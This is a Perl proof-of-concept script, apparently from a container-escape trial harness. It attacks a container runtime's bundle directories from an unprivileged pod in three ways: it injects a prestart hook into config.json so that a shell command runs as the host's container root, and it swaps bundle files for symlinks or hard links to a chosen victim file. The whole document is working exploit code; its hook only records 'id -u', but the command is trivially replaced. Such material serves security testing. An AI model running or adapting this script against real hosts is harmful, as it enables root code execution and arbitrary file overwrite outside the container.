# What a pod does that may write to the runtime's folders: no privilege, the host's id of containers' root.
# Arguments: the attack, what it is after, and the ids of containers, which a pod cannot know and is told here.
use strict;
use warnings;
use Time::HiRes qw(usleep);

my ($attack, $victim, $turns, @ids) = @ARGV;
my $bundles = "/run/containers/storage/overlay-containers";
my $hook = qq({"hooks":{"prestart":[{"path":"/bin/sh","args":["sh","-c","id -u >>$victim"]}]},);

sub put { my ($name, $text) = @_; open(my $file, ">", $name) or return 0; print $file $text; close $file; return 1 }

# Something else under a name of the bundle's, whatever is there already.
sub instead {
    my ($bundle, $name, $make) = @_;
    my $own = "$bundle/.$name.$$";
    unlink $own;
    $make->($own) or return 0;
    return rename($own, "$bundle/$name");
}

sub configuration {
    my ($bundle) = @_;
    open(my $file, "<", "$bundle/config.json") or return 0;
    my $text = do { local $/; <$file> };
    return 0 if !defined $text || $text =~ /prestart/ || $text !~ s/^\s*\{/$hook/;
    return instead($bundle, "config.json", sub { put($_[0], $text) });
}

sub once {
    my ($bundle) = @_;
    return configuration($bundle) if $attack eq "config.json";
    if ($attack eq "hard-link") {
        return instead($bundle, "ctl", sub { link($victim, $_[0]) });
    }
    return instead($bundle, $attack, sub { symlink($victim, $_[0]) });
}

for my $id (@ids) {
    my $bundle = "$bundles/$id/userdata";
    for (1 .. $turns) {
        last if once($bundle);
        # The next one is there: this one is over.
        last if $turns > 1 && -e "/run/trial/$id.over";
    }
}
